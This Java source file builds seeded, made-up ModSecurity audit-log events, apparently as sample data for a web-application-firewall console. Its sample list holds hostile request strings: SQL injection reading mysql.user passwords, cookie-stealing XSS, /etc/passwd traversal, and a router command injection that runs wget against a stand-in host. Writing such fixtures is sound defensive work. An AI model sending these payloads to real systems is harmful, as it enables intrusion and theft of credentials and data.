package io.rempart.console;

import inet.ipaddr.IPAddress;
import inet.ipaddr.IPAddressString;
import io.rempart.events.model.Attribution;
import io.rempart.events.model.AuditFormat;
import io.rempart.events.model.ByteText;
import io.rempart.events.model.Classification;
import io.rempart.events.model.Classification.Evidence;
import io.rempart.events.model.Event;
import io.rempart.events.model.Event.Disposition;
import io.rempart.events.model.HeaderField;
import io.rempart.events.model.Hit;
import io.rempart.events.model.Request;
import io.rempart.events.model.Response;
import io.rempart.events.model.Severity;
import io.rempart.events.model.SourceClass;
import io.rempart.events.store.EventEntry;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Events as audit logs hold them, made up: the same for the same seed. */
final class SampleEvents {
    private static final String[][] ATTACKS = {
        {"GET", "/index.php?id=1%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20mysql.user--", "942100", "attack"},
        {"GET", "/search?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E", "941100", "attack"},
        {"GET", "/../../../../etc/passwd", "930120", "attack"},
        {"GET", "/phpMyAdmin/index.php?lang=en", "913100", "scanner"},
        {"GET", "/.env", "930130", "scanner"},
        {"POST", "/wp-login.php", "920440", "brute-force"},
        {"GET", "/robots.txt", "", "good-bot"},
        {"GET", "/blog/2026/les-elections-select-from-where", "942360", "false-positive"},
        {
            "GET",
            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget http://198.51.100.9/x`)",
            "932160",
            "attack"
        },
        {"HEAD", "/", "920280", "bad-bot"},
        {"GET", "/", "920350", "unclassified"},
    };
    private static final String[] AGENTS = {
        "Mozilla/5.0 zgrab/0.x",
        "sqlmap/1.8#stable (https://sqlmap.org)",
        "curl/8.5.0",
        "Mozilla/5.0 (compatible; Nmap)"
    };
    private static final String[] COUNTRIES = {"NL", "US", "FR", "CN", "DE", ""};

    private SampleEvents() {}

    static List<EventEntry> of(int count, long seed, Instant newest) {
        Random random = new Random(seed);
        List<EventEntry> entries = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            String[] kind = ATTACKS[random.nextInt(ATTACKS.length)];
            entries.add(entry(kind, i, random, newest.minusSeconds((long) i * (30 + random.nextInt(400)))));
        }
        return entries;
    }

    private static EventEntry entry(String[] kind, int i, Random random, Instant time) {
        String client = "203.0.113." + (1 + random.nextInt(40));
        String agent = AGENTS[random.nextInt(AGENTS.length)];
        boolean blocked = random.nextInt(3) > 0 && !kind[2].isEmpty();
        int status = blocked ? 403 : random.nextBoolean() ? 404 : 200;
        SourceClass sourceClass = SourceClass.ofKey(kind[3]).orElseThrow();
        Event event = event(
                kind[0],
                kind[1],
                "shop.example.org",
                agent,
                client,
                time,
                kind[2].isEmpty() ? List.of() : hits(kind[2]),
                kind[2].isEmpty() ? Disposition.LOGGED : blocked ? Disposition.BLOCKED : Disposition.DETECTED,
                status,
                List.of());
        String country = COUNTRIES[random.nextInt(COUNTRIES.length)];
        Attribution attribution = new Attribution(
                event.peer(), false, country, country.isEmpty() ? 0 : 64_500 + random.nextInt(9), "Example Networks");
        Classification classification = new Classification(
                sourceClass,
                60 + random.nextInt(40),
                "rules/1",
                List.of(new Evidence("path-" + i % 7, sourceClass, 40, "path " + kind[1].split("\\?")[0])));
        return new EventEntry(event, attribution, classification, record(event), random.nextLong(), i % 23 == 0);
    }

    static Event event(
            String method,
            String uri,
            String host,
            String agent,
            String client,
            Instant time,
            List<Hit> hits,
            Disposition disposition,
            int status,
            List<String> notes) {
        ByteText target = bytes(uri);
        Request request = new Request(
                bytes(method + " " + uri + " HTTP/1.1"),
                bytes(method),
                target,
                bytes("HTTP/1.1"),
                List.of(
                        new HeaderField(bytes("Host"), bytes(host)),
                        new HeaderField(bytes("User-Agent"), bytes(agent)),
                        new HeaderField(bytes("Accept"), bytes("*/*"))),
                method.equals("POST") ? bytes("log=admin&pwd=%5Bmasked%3A4f2a%5D") : ByteText.EMPTY);
        Response response = new Response(
                status,
                bytes("HTTP/1.1"),
                List.of(new HeaderField(bytes("Content-Type"), bytes("text/html; charset=iso-8859-1"))),
                ByteText.EMPTY);
        IPAddress peer = new IPAddressString(client).getAddress();
        return new Event(
                AuditFormat.MODSECURITY2_JSON,
                "ZaBcDeFgHiJkLmNo" + Long.toString(time.getEpochSecond() % 1_000_000),
                time,
                "23/Nov/2026:08:00:00.000000 +0100",
                peer,
                51_234,
                host,
                "192.0.2.10",
                443,
                true,
                request,
                response,
                hits,
                disposition,
                "ENABLED",
                hits.isEmpty() ? -1 : 15,
                -1,
                "ModSecurity for Apache/2.9.7; OWASP_CRS/4.25.1",
                notes);
    }

    static List<Hit> hits(String rule) {
        String matched = switch (rule.substring(0, 3)) {
            case "942" -> "UNION SELECT user,password";
            case "941" -> "<script>";
            case "930" -> "etc/passwd";
            default -> "";
        };
        String data = matched.isEmpty()
                ? ""
                : "Matched Data: " + matched + " found within ARGS:id: 1' " + matched + " FROM mysql.user--";
        return List.of(
                hit(
                        rule,
                        "Detected: sample of rule family " + rule.substring(0, 3),
                        "ARGS:id",
                        data,
                        Severity.CRITICAL),
                hit(
                        "949110",
                        "Inbound Anomaly Score Exceeded (Total Score: 15)",
                        "TX:BLOCKING_INBOUND_ANOMALY_SCORE",
                        "",
                        null));
    }

    static Hit hit(
            String rule,
            String message,
            String variable,
            String data,
            @org.jspecify.annotations.Nullable Severity severity) {
        return new Hit(
                rule,
                2,
                bytes(message),
                bytes("Pattern match \"(?i)union.*select\" at " + variable + "."),
                variable,
                bytes(data),
                severity,
                List.of("application-multi", "attack-sqli", "paranoia-level/1", "OWASP_CRS"),
                "OWASP_CRS/4.25.1",
                "",
                "/etc/modsecurity/crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf",
                66,
                true,
                false);
    }

    /** A record for which the tests' own opener finds the event again. */
    static byte[] record(Event event) {
        return ("{\"sample\":\"" + System.identityHashCode(event) + "\",\"uri\":\""
                        + event.request().uri().toLatin1() + "\"}")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    static ByteText bytes(String text) {
        return ByteText.of(text.getBytes(StandardCharsets.UTF_8));
    }
}
